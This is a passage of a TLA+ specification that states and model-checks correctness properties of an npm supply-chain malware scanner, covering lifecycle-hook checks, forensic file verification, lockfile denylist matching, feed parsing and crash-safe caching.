\* C24: a run (other than --help) whose scan path fails validation or does
\* not exist ends in main's validation step with status 1: no feed was
\* requested or read, nothing was scanned, no report was written, nothing
\* was uploaded, and the ledger and the counters are as they were at the
\* start.
C24_InputErrorsFatal ==
    (pc # "start" /\ ~help(args) /\ BadScanPath) =>
        /\ pc = "aborted"
        /\ exitCode = 1
        /\ sent = {}
        /\ net = [s \in Sources |-> NotCalled]
        /\ feedData = [s \in Sources |-> Unset]
        /\ saved = [s \in Sources |-> NeverSaved]
        /\ badPackages = [n \in {} |-> {}]
        /\ detectedIssues = <<>>
        /\ scanStats = ZeroStats
        /\ stack = <<>> /\ touched = {} /\ visited = {}
        /\ report = NoReport
        /\ uploaded = NoPayload
        /\ ~isShuttingDown

\* a run was aborted for a path that does not exist
C24_Witness ==
    /\ pc = "aborted"
    /\ validatePath(inputPath(args), NoBase) # NullPath
    /\ ~Exists(validatePath(inputPath(args), NoBase))

\* the lifecycle hooks of the manifest whose command is a string that is
\* not whitelisted and matches a critical pattern
CriticalHooks ==
    { i \in 1..Len(hooks) :
        /\ hooks[i] \in DOMAIN TheManifest.scripts.hooks
        /\ TheManifest.scripts.hooks[hooks[i]].t = "string"
        /\ TheManifest.scripts.hooks[hooks[i]].w # <<>>
        /\ ~isWhitelisted(TheManifest.scripts.hooks[hooks[i]].w)
        /\ CriticalHits(TheManifest.scripts.hooks[hooks[i]].w) # {} }

\* C25 as claimed: checkScripts appends exactly one CRITICAL_SCRIPT issue
\* for each lifecycle hook whose command is not whitelisted and matches a
\* critical pattern; a critical match of an earlier hook does not keep a
\* later hook from being reported.
C25_EveryHookAnalysed ==
    (ManifestRead /\ TheManifest.scripts.t = "object") =>
        Len(AppendedOf({"CRITICAL_SCRIPT"})) = Cardinality(CriticalHooks)

\* the forensic rules that look for indicators in the text of the file
TextRuleNames == { f \in ForensicNames : FORENSIC_RULES(f).hasIndicators }
\* the part of the text that is inspected: the first megabyte of a longer one
Inspected(n) ==
    (IF n.size > MAX_TEXT_CHECKED THEN n.body.head ELSE n.body.words)
        \cup n.body.keys \cup n.body.strs
\* the file at p is readable, non-empty and within the size cap, an
\* indicator matches the inspected text and no safe pattern does
TextConfirmable(f, p) ==
    /\ fs[p].kind = "file" /\ fs[p].err = "none"
    /\ fs[p].size > 0 /\ fs[p].size <= MAX_VERIFY_SIZE
    /\ \E r \in FORENSIC_RULES(f).indicators : RegexTest(r, Inspected(fs[p]))
    /\ ~\E r \in FORENSIC_RULES(f).safePatterns : RegexTest(r, Inspected(fs[p]))

\* C26: for a file named as an indicator rule (bundle.js) verifySuspiciousFile
\* confirms exactly when the file is readable, non-empty and within the size
\* cap, an indicator matches the inspected content and no safe pattern does;
\* in every other case it returns confirmed = false with a reason, nothing is
\* thrown, and checkPackageJson does not report the file as a forensic find.
C26_TextRuleVerdict ==
    \A f \in TextRuleNames :
        (Checked /\ Join(call.path, f) \in DOMAIN fs) =>
            /\ verifySuspiciousFile(Join(call.path, f), f).confirmed
                  <=> TextConfirmable(f, Join(call.path, f))
            /\ verifySuspiciousFile(Join(call.path, f), f).reason # ""
            /\ ~call.threw
            /\ Len(ForensicIssues(f, {"FORENSIC_MATCH", "FORENSIC_ARTIFACT"}))
                  = IF TextConfirmable(f, Join(call.path, f)) THEN 1 ELSE 0

\* a text longer than a megabyte whose indicator lies beyond the inspected
\* part was dismissed
C26_Witness ==
    /\ Checked
    /\ \E f \in TextRuleNames :
          /\ Join(call.path, f) \in DOMAIN fs
          /\ fs[Join(call.path, f)].size > MAX_TEXT_CHECKED
          /\ \E r \in FORENSIC_RULES(f).indicators : RegexTest(r, fs[Join(call.path, f)].body.words)
          /\ ~verifySuspiciousFile(Join(call.path, f), f).confirmed
          /\ Len(ForensicIssues(f, {"FORENSIC_MATCH", "FORENSIC_ARTIFACT"})) = 0

\* the issues of a yarn.lock when every header opens the context of the
\* package it names and the first version line after it is checked against
\* the denylist
RECURSIVE yarnByHeader(_, _, _, _)
yarnByHeader(lines, i, currentPkg, lockPath) ==
    IF i > Len(lines) THEN <<>>
    ELSE IF lines[i].kind = "decl" THEN yarnByHeader(lines, i + 1, lines[i].text, lockPath)
    ELSE IF currentPkg # Undefined /\ lines[i].kind = "version"
    THEN yarnHit(currentPkg, lines[i].text, lockPath)
         \o yarnByHeader(lines, i + 1, Undefined, lockPath)
    ELSE yarnByHeader(lines, i + 1, currentPkg, lockPath)

\* C27 as claimed: in a yarn.lock every header line opens the context of the
\* package it names, the first version line after it is checked once against
\* the denylist and closes the context, a version line without a context
\* yields nothing, and so every version is attributed to the most recent
\* header.
C27_YarnStateMachine ==
    (YarnChecked /\ ~call.threw) =>
        Appended = yarnByHeader(LockOf(NodeAt(call.path).body).lines, 1, Undefined, call.path)

\* ------------------------------------------------------------------------
\* The structured feed: the documents explored
\* ------------------------------------------------------------------------
\* the entry of a package: a list of versions that is valid, empty or all
\* invalid, or no list at all
ParseRows ==
    { Row("evil", TRUE, <<JsStr("6.6.7")>>), Row("evil", TRUE, <<>>),
      Row("evil", TRUE, <<JsNum("7"), JsStr("VERSION-LONGER-THAN-50")>>),
      Row("evil", FALSE, <<>>) }
\* the entries before it: none, or so many that it is the entry number
\* 100,000, 100,001 or 100,002 of the document
ParseFeeds ==
    { Feed("json", "object", pre \o <<r>>) :
        pre \in { <<>>, << Bulk(maxPackages - 1) >>, << Bulk(maxPackages) >>,
                  << Bulk(maxPackages + 1) >> },
        r \in ParseRows }
    \cup { JsonArray, Garbage, Feed("json", "null", <<>>), Feed("json", "scalar", <<>>) }

\* one run of fetchThreats that finds both feeds in the cache
InitParse ==
    /\ IdleScan
    /\ pc = "fetch"
    /\ args = <<"proj">>
    /\ \E w \in {CsvA, CsvB}, d \in ParseFeeds :
          cache = [s \in Sources |-> VerifiedEntry(IF s = "wiz" THEN w ELSE d)]
    /\ fallback = [s \in Sources |-> NoFile]
    /\ net = [s \in Sources |-> NotCalled]
    /\ sent = {}
    /\ feedData = [s \in Sources |-> Unset]
    /\ clock = 1
    /\ saved = [s \in Sources |-> NeverSaved]

NextParse ==
    \/ \E s \in Sources : FetchCall(s)
    \/ \E s \in Sources : AwaitFetch(s)
    \/ MergeFeeds

SpecParse == InitParse /\ [][NextParse]_vars

\* the structured feed that was merged, and the place of its entry of evil
JsonFeed == feedData["json"].value
Merged == pc = "scan" /\ feedData["json"].status = "fulfilled"
EvilAt == Seen(JsonFeed.rows, Len(JsonFeed.rows)) + 1

\* C28 as claimed: parseMaliciousJSON takes no package from beyond the first
\* 100,000 entries of the top-level object, and a document that is no JSON
\* or whose top-level value is not a non-array object adds nothing to the
\* denylist.
C28_EntryLimit ==
    Merged =>
        /\ (JsonFeed.top = "object" /\ EvilAt > maxPackages)
              => "evil" \notin DOMAIN parseMaliciousJSON(JsonFeed)
        /\ JsonFeed.top # "object"
              => /\ parseMaliciousJSON(JsonFeed) = NoPackages
                 /\ badPackages = mergeFeeds(parseWizCSV(feedData["wiz"].value), NoPackages)

\* the entry of evil in the structured feed that was merged
EvilEntry == JsonFeed.rows[Len(JsonFeed.rows)]

\* C29 as claimed: a package of the structured feed gets the wildcard
\* exactly when its entry has no list of versions; with a list, be it empty
\* or without a valid element, it gets the valid versions of the list and
\* no wildcard.
C29_WildcardOnlyWithoutList ==
    (Merged /\ JsonFeed.top = "object" /\ "evil" \in DOMAIN parseMaliciousJSON(JsonFeed)) =>
        /\ "*" \in badPackages["evil"] <=> ~EvilEntry.hasList
        /\ EvilEntry.hasList =>
              Range(Plain(StringsOf(EvilEntry.versions))) \subseteq badPackages["evil"]

\* the number of links that lead from p to what is no link
RECURSIVE Hops(_, _)
Hops(p, fuel) ==
    IF fuel = 0 \/ p \notin DOMAIN fs \/ fs[p].kind # "symlink"
          \/ "target" \notin DOMAIN fs[p].body
    THEN 0
    ELSE 1 + Hops(fs[p].body.target, fuel - 1)
\* p is a symbolic link that dangles or stands at the head of a chain of
\* more than MAX_SYMLINK_DEPTH links
Unresolvable(p) ==
    /\ lpath(p) \in DOMAIN fs
    /\ fs[lpath(p)].kind = "symlink"
    /\ realpath(p) \notin DOMAIN fs \/ Hops(lpath(p), MAX_LINKS_FOLLOWED) > MAX_SYMLINK_DEPTH

\* C30 as claimed: a scanDir call that gets as far as the symlink check with
\* a path that is a link which dangles or heads a chain of more than 3
\* links skips the path: symlinksSkipped grows by one, the other counters
\* and the ledger stay, and no directory is read.
C30_UnresolvedLinkSkipped ==
    [][(/\ Top("scanDir")
        /\ ~atCeiling(scanStats.directoriesScanned)
        /\ ~tooDeep(Head(stack).depth, maxDepth(args))
        /\ validatePath(Head(stack).path, NoBase) # NullPath
        /\ Unresolvable(Head(stack).path))
          => /\ scanStats' = [scanStats EXCEPT !.symlinksSkipped = @ + 1]
             /\ detectedIssues' = detectedIssues
             /\ visited' = visited]_vars

\* C31 as claimed: over a whole run the warning 'Directory scan limit
\* reached' is logged at most once and the warning 'Package scan limit
\* reached' is logged at most once, however many calls are made at the
\* ceiling.
C31_LimitLoggedOnce == warnings.dirLimit <= 1 /\ warnings.pkgLimit <= 1

\* ------------------------------------------------------------------------
\* The cache after a run that stopped within saveToCache
\* ------------------------------------------------------------------------
\* the last save of s was cut short by an earlier run, and this run has
\* called the fetch of s since
StoppedEarlier(s) ==
    /\ saved[s].run >= 1
    /\ saved[s].run < clock
    /\ saved[s].how \in CrashSteps
    /\ Called(s)

\* C32: after a run that stopped at any step of saveToCache, a later fetch
\* either returns from the cache a payload that was fetched completely and
\* that the hash file matches, or it distrusts the entry and makes the
\* request again; it never returns partial content.
C32_CrashSafeCache ==
    \A s \in Sources :
        StoppedEarlier(s) =>
            \/ /\ net[s].via = "cache"
               /\ net[s].value \in Bodies(s)
               /\ cache[s].hash.st = "ok"
               /\ cache[s].hash.data = computeHash(net[s].value)
            \/ /\ net[s].via # "cache"
               /\ Requested(s)

\* ------------------------------------------------------------------------
\* The outcomes of the forensic loop
\* ------------------------------------------------------------------------
\* the forensic files that are regular files of the package checked in `call`
RegularForensic == { f \in ForensicNames : lstatIsFile(Join(call.path, f)) }
Reported(f, type) == Len(ForensicIssues(f, {type}))
Unreported(f) == ForensicIssues(f, {"FORENSIC_MATCH", "FORENSIC_ARTIFACT", "SAFE_MATCH"}) = <<>>

threats == SelectSeq(detectedIssues, LAMBDA i : i.type # "SAFE_MATCH")

\* C34: every issue the summary counts as a threat (any kind but SAFE_MATCH)
\* is of a kind of the critical or the warning set of the exit logic, so a
\* run with --fail-on=warning that reaches the exit logic with a threat in
\* the ledger exits non-zero.
C34_EveryThreatFails ==
    /\ \A i \in 1..Len(threats) : threats[i].type \in criticalTypes \cup warningTypes
    /\ (pc = "done" /\ failOnGiven(args) /\ failOn(args) = "warning" /\ threats # <<>>)
          => exitCode # 0

\* ------------------------------------------------------------------------
\* Lockfile check: the inputs explored
\* ------------------------------------------------------------------------
MaxLockChecks == 2
LockVersions == {"1.2.3", "2.0.0"}

\* a package-lock.json that pins left-pad at v and @scope/evil at 3.0.0: in
\* the "packages" map (lockfileVersion 3), in the "dependencies" tree
\* (lockfileVersion 1) or in both (lockfileVersion 2)
NpmPins(v, strip) ==
    << LockEntry(IF strip THEN "node_modules/left-pad" ELSE "left-pad", JsStr(v)),
       LockEntry(IF strip THEN "node_modules/@scope/evil" ELSE "@scope/evil", JsStr("3.0.0")) >>
NpmLocks(v) ==
    { NpmLock(TRUE, <<>>, NpmPins(v, FALSE)),
      NpmLock(TRUE, <<LockEntry("", JsStr("1.0.0"))>> \o NpmPins(v, TRUE), NpmPins(v, FALSE)),
      NpmLock(TRUE, <<LockEntry("", JsStr("1.0.0"))>> \o NpmPins(v, TRUE), <<>>) }
\* the yarn.lock of the same installation
YarnPins(v) ==
    YarnLock(<< YarnLine("decl", "left-pad"), YarnLine("version", v),
                YarnLine("other", "resolved"),
                YarnLine("decl", "@scope/evil"), YarnLine("version", "3.0.0"),
                YarnLine("other", "resolved") >>)
NpmLockPath == <<"proj", "package-lock.json">>
YarnLockPath == <<"proj", "yarn.lock">>
LockTrees ==
    { TreeFrom(TwoFiles(NpmLockPath, FileNode(100, npm), YarnLockPath, FileNode(100, YarnPins(v)))) :
        <<v, npm>> \in { <<v, npm>> \in LockVersions \X UNION { NpmLocks(w) : w \in LockVersions } :
                           npm \in NpmLocks(v) } }
LockDenylists ==
    Denylists \cup
    { [n \in {"left-pad", "@scope/evil"} |-> IF n = "left-pad" THEN {"*", "1.2.3"} ELSE {"3.0.0"}] }

InitLock ==
    /\ fs \in LockTrees
    /\ badPackages \in LockDenylists
    /\ detectedIssues = <<>>
    /\ scanStats = ZeroStats
    /\ isShuttingDown = FALSE
    /\ call = NoCall
    /\ pc = "scan"
    /\ IdleMain
    /\ IdleFetch

NextLock ==
    \E p \in {NpmLockPath, YarnLockPath} :
        scanStats.lockfilesChecked < MaxLockChecks /\ ScanLockfile(p)

SpecLock == InitLock /\ [][NextLock]_vars

\* ------------------------------------------------------------------------
\* Properties of the lockfile check
\* ------------------------------------------------------------------------
LockKinds == {"LOCKFILE_HIT", "WILDCARD_LOCK_HIT"}
LockHits == SelectSeq(detectedIssues, LAMBDA i : i.type \in LockKinds)
\* the hits one lockfile added for a package
HitsIn(lockPath, pkg) ==
    SelectSeq(LockHits, LAMBDA i : i.location = lockPath /\ i.package = pkg)

\* C35: the npm matcher and the yarn matcher give a pinned entry of the same
\* package and version the same kind, and the kind follows the precedence of
\* the manifest check: WILDCARD_LOCK_HIT whenever the denylist set holds "*",
\* LOCKFILE_HIT when it holds the pinned version and no "*".
C35_SameClassification ==
    \A i, j \in 1..Len(LockHits) :
        /\ (LockHits[i].package = LockHits[j].package
              /\ LockHits[i].version = LockHits[j].version)
             => LockHits[i].type = LockHits[j].type
        /\ LockHits[i].type = "WILDCARD_LOCK_HIT"
             <=> "*" \in badPackages[LockHits[i].package]

\* the hits the lockfile check in `call` appended for a package
AppendedHits(pkg) ==
    SelectSeq(Appended, LAMBDA i : i.type \in LockKinds /\ i.package = pkg)

\* C36: one check of an npm lockfile appends at most one hit for a package it
\* pins once, also when the lockfile describes the installation both in its
\* "packages" map and in its "dependencies" tree.
C36_OneHitPerInstallation ==
    (call.op = "checkLockfile" /\ call.path = NpmLockPath)
        => \A pkg \in DOMAIN badPackages : Len(AppendedHits(pkg)) <= 1

\* the yarn.lock under check pins @scope/evil at 3.0.0 under its own header
ScopedPinned ==
    /\ call.op = "checkLockfile" /\ call.path = YarnLockPath
    /\ "@scope/evil" \in DOMAIN badPackages
    /\ badPackages["@scope/evil"] \cap {"*", "3.0.0"} # {}

\* C39: the yarn matcher reports a denylisted scoped package: the entry under
\* the header "@scope/evil@..." with a denylisted version yields a hit for
\* @scope/evil, and its version is reported for no other package.
C39_ScopedYarnEntry ==
    ScopedPinned =>
        /\ Len(AppendedHits("@scope/evil")) = 1
        /\ AppendedHits("@scope/evil")[1].version = "3.0.0"
        /\ \A i \in 1..Len(Appended) :
              (Appended[i].type \in LockKinds /\ Appended[i].version = "3.0.0")
                  => Appended[i].package = "@scope/evil"

\* ------------------------------------------------------------------------
\* Who writes the cache
\* ------------------------------------------------------------------------
\* C38: the cache entry of a source is written only by a fetch that returns
\* the body it writes to its caller: a fetch the timeout handler has settled
\* (with the fallback or a failure) does not write it when the response comes
\* late, and an oversized body or one with a non-2xx status is not written.
C38_CacheWrittenByReturningFetch ==
    [][\A s \in Sources :
          cache'[s] # cache[s] =>
              /\ net'[s].status = "fulfilled"
              /\ net'[s].via = "network"
              /\ net'[s].value = cache'[s].payload.data
              /\ net[s].phase = "body_2xx"]_vars

\* ------------------------------------------------------------------------
\* Every fetch settles
\* ------------------------------------------------------------------------
\* C37: from every sequence of network events each call of fetchWithCache
\* eventually settles, so fetchThreats returns and the walk begins.
C37_EveryFetchSettles ==
    /\ \A s \in Sources : Called(s) ~> net[s].status # "pending"
    /\ <>(pc = "scan")

====
